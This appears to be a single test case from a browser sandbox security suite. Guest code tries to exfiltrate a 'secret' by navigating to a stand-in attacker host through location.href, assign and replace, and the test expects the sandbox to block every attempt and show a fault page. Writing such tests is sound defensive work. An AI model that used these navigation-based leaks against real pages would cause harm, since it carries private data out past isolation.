import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '11',
  group: 'exfiltration',
  title: 'carry data out by navigating itself',
  expected: '0 hits, and the session is over',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    location.href = `${evil}/11/href?secret`;
    await pause(300);
    location.assign(`${evil}/11/assign?secret`);
    await pause(300);
    location.replace(`${evil}/11/replace?secret`);
    await pause(1000);
    return null;
  },
  async judge({ page }) {
    await page.locator('fault-page').waitFor({ timeout: 15_000 });
  },
};
